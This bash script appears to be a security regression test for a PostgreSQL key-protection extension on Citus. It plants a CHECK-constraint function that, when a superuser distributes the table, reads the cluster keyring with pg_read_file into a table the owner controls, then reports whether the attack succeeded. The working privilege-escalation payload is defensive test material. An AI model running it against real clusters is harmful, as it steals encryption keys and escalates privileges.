#!/usr/bin/env bash
# 59 — Citus: 57 carried through. docs/citus.md's setup has a superuser
# run create_distributed_table() on the table before protect(); Citus
# copies its rows into the shards over connections as that superuser, so a
# CHECK constraint of the table's owner (owner1, a worker-side table owner)
# runs as the superuser on every worker. Its function copies the cluster
# keyring (listguard.key_file: every node's index and sealing keys) into a
# table of owner1's on the worker. (ALTER ROLE owner1 SUPERUSER there
# instead ends in a distributed deadlock: Citus holds the role's lock.)
# protect() would refuse the table afterwards (untrusted code), too late.
# Secure outcome: owner1's code does not run as a superuser, or cannot
#   read server files; owner1 finds nothing in its table.
set -u
cd "$(dirname "$0")"
. ./citus_env.sh
citus_env_up
at coordinator -c "GRANT CREATE ON SCHEMA public TO owner1" >/dev/null 2>&1
for w in worker1 worker2; do
    at $w -c "SET citus.enable_ddl_propagation = off" -c "GRANT CREATE ON SCHEMA public TO owner1" >/dev/null 2>&1
    at $w -U owner1 -c "DROP TABLE IF EXISTS public.loot59" -c "CREATE TABLE public.loot59 (cu text, secret text)" -c "GRANT INSERT ON public.loot59 TO PUBLIC" >/dev/null 2>&1
done
at coordinator -U owner1 -v ON_ERROR_STOP=1 >/dev/null 2>&1 <<'SQL'
DROP TABLE IF EXISTS public.t59;
CREATE OR REPLACE FUNCTION public.up59(x int) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
  IF current_setting('is_superuser') = 'on' THEN
    BEGIN
      INSERT INTO public.loot59 VALUES (current_user, left(pg_read_file(current_setting('listguard.key_file')), 40));
    EXCEPTION WHEN others THEN NULL;
    END;
  END IF;
  RETURN true;
END $f$;
CREATE TABLE public.t59 (id int PRIMARY KEY, v int CHECK (public.up59(v)));
INSERT INTO public.t59 SELECT g, g FROM generate_series(1, 4) g;
SQL
out=$(at coordinator -c "SELECT create_distributed_table('public.t59', 'id')" 2>&1 | grep -c ERROR)
got=$(for w in worker1 worker2; do echo "$w: $(at $w -U owner1 -c "SELECT cu || ' ' || secret FROM public.loot59 LIMIT 1" 2>&1)"; done | tr '\n' ' ')
echo "distribute errors: $out; owner1 reads in its own table on the workers: $got"
# Restore.
at coordinator -c "DROP TABLE IF EXISTS public.t59" -c "DROP FUNCTION IF EXISTS public.up59(int)" >/dev/null 2>&1
if echo "$got" | grep -q 'postgres'; then
    echo "RESULT: FINDING (M): a superuser's create_distributed_table() runs the table owner's CHECK code as the superuser on the workers: owner1 reads the cluster keyring"
else
    echo "RESULT: held"
fi
